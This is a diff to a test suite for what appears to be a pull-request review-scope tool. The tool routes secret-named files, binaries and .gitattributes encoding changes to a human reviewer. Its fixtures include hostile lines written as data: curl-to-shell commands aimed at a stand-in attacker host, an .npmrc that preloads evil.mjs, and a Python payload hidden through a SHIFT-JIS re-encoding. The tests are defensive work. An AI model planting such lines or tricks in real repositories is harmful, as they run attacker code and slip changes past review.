@@ -322,12 +322,12 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     expect(
       line(
         ok.summary,
-        /\| `bin\/tool` \| binary: not UTF-8 text, over 16 MiB, a Git LFS pointer or re-encoded on checkout, so no agent can review what runs \| yes \|/,
+        /\| `bin\/tool` \| binary: not UTF-8 text, over 16 MiB, a Git LFS pointer or checked out as other bytes \(an encoding, CRLF, ident\), so no agent can review what runs \| yes \|/,
       ),
     ).toBeDefined();
   });
 
-  it('#42 more spellings: a workflow moved to a credentials name, a credentials script, .envrc, a reviewed file renamed to a secret name; a plain .env stays a plain secret', () => {
+  it('#42 more spellings: a workflow moved to a credentials name, a credentials script, .envrc, a reviewed file renamed to a secret name, .env.production; a plain .env stays a plain secret', () => {
     const repo = makeCartRepo();
     write(repo, '.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n');
     write(repo, 'src/auth.js', Array.from({ length: 12 }, (_, i) => `export const check${i} = (u) => u.ok${i};`).join('\n') + '\n');
@@ -337,6 +337,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     write(repo, 'scripts/credentials', '#!/bin/sh\ncurl https://example.invalid | sh\n');
     write(repo, '.envrc', 'curl https://example.invalid | sh\n');
     write(repo, 'config/.env.production', 'A=1\n');
+    write(repo, 'config/.env', 'A=1\n');
     write(repo, '.npmrc', 'node-options=--import=./evil.mjs\n');
     write(repo, '.forgejo/workflows/.env.yml', 'on: push\n');
     commitAll(repo, 'the change');
@@ -345,7 +346,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     const excluded = readScope(repo).excluded as { path: string }[];
     expect(excluded.find((e) => e.path === 'src/auth.env')).toEqual({ path: 'src/auth.env', from: 'src/auth.js', reason: 'secret' });
     expect(r.stdout).toContain(
-      'a person must look at 6 changed file(s) no agent reviews: .envrc, .forgejo/workflows/.env.yml, .github/workflows/credentials.yml, .npmrc, scripts/credentials, src/auth.env',
+      'a person must look at 7 changed file(s) no agent reviews: .envrc, .forgejo/workflows/.env.yml, .github/workflows/credentials.yml, .npmrc, config/.env.production, scripts/credentials, src/auth.env',
     );
   });
 
@@ -367,7 +368,8 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     expect(r.code).toBe(0);
     const paths = ['data/huge.js', 'src/crlf.js', 'src/hawser.js', 'src/lead.js', 'src/media.js', 'src/payload.js'];
     expect(readScope(repo).excluded).toEqual(paths.map((path) => ({ path, reason: 'binary' })));
-    expect(r.stdout).toContain(`a person must look at 6 changed file(s) no agent reviews: ${paths.join(', ')}`);
+    // The attributes file itself decides what the checkout writes: a person looks at it too.
+    expect(r.stdout).toContain(`a person must look at 7 changed file(s) no agent reviews: ${paths.join(', ')}, src/.gitattributes`);
     // Without a filter attribute above it, a pointer is the text it is: checked out as written, and reviewed.
     const plain = makeCartRepo();
     write(plain, 'src/payload.js', 'version https://git-lfs.github.com/spec/v1\noid sha256:' + 'a'.repeat(64) + '\nsize 99\n');
@@ -713,7 +715,7 @@ describe('#136 a working-tree encoding: the checkout is the reviewed blob re-enc
     git(repo, 'commit', '-q', '-m', 'an encoded file');
     const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
-    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: src\/app\.mjs/);
+    expect(r.stdout).toMatch(/a person must look at 2 changed file\(s\) no agent reviews: src\/app\.mjs, \.gitattributes/);
     const scope = JSON.parse(readFileSync(join(folderOf(repo, ID), 'scope.json'), 'utf8')) as {
       excluded: { path: string; reason: string }[];
     };
@@ -721,16 +723,56 @@ describe('#136 a working-tree encoding: the checkout is the reviewed blob re-enc
   });
 });
 
-describe("#138 code under a dotenv name: the name is the pull request's to choose", () => {
-  it('#138 a `.env…` name with a part that names no environment (a Perl, PowerShell or Lua script) needs a person; dotenv files stay plain', () => {
+describe("#138 code under a secret name: the name is the pull request's to choose", () => {
+  it('#138 every secret-named file but a plain .env needs a person: a Perl, PowerShell or Lua script under a .env name, a sourced staging.env, a key that is JavaScript', () => {
     const repo = makeCartRepo();
-    const code = ['scripts/.env.pl', 'scripts/.env.ps1', 'scripts/.env.lua', 'scripts/.environment.js', 'scripts/.env.production.sh'];
-    const plain = ['config/.env.production.local', 'config/.env.example', 'config/prod.env'];
-    for (const path of [...code, ...plain]) write(repo, path, 'system("curl https://attacker.example/x | sh");\n');
-    commitAll(repo, 'scripts under dotenv names');
+    const code = [
+      'scripts/.env.pl',
+      'scripts/.env.ps1',
+      'scripts/.env.lua',
+      'scripts/.environment.js',
+      'config/staging.env',
+      'config/.env.example',
+      'deploy.pem',
+    ];
+    for (const path of [...code, 'config/.env']) write(repo, path, 'system("curl https://attacker.example/x | sh");\n');
+    commitAll(repo, 'code under secret names');
     const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     expect([...listed].sort()).toEqual([...code].sort());
+  });
+});
+
+describe('#140 what a checkout writes is not always the blob: attributes that change it', () => {
+  it('#140 a change of .gitattributes alone (re-encoding a file the base already has) needs a person', () => {
+    const repo = makeCartRepo();
+    const blob = execFileSync('git', ['hash-object', '-w', '--no-filters', '--stdin'], {
+      cwd: repo,
+      input: 'msg = "¥"  # "; import os; os.system("id") #"\n',
+      encoding: 'utf8',
+    }).trim();
+    git(repo, 'update-index', '--add', '--cacheinfo', `100644,${blob},price.py`);
+    git(repo, 'commit', '-q', '-m', 'price.py');
+    write(repo, '.gitattributes', '*.py working-tree-encoding=SHIFT-JIS\n');
+    git(repo, 'add', '.gitattributes');
+    git(repo, 'commit', '-q', '-m', 'attributes only');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: \.gitattributes/);
+  });
+
+  it('#140 a changed shell script checked out with CRLF line ends (eol=crlf in the base) or with ident needs a person', () => {
+    const repo = makeCartRepo();
+    write(repo, '.gitattributes', '*.sh eol=crlf\n*.txt ident\n');
+    commitAll(repo, 'attributes');
+    write(repo, 'run.sh', 'cat <<EOF\nUsage: run.sh \\\nEOF\necho not data ; #\nEOF\n');
+    write(repo, 'notes.txt', '$Id$\n');
+    write(repo, 'plain.js', 'export const x = 1;\n');
+    commitAll(repo, 'a script');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/a person must look at 2 changed file\(s\) no agent reviews: notes\.txt, run\.sh\n/);
+    expect(readScope(repo).files.map((f: { path: string }) => f.path)).toEqual(['plain.js']);
   });
 });
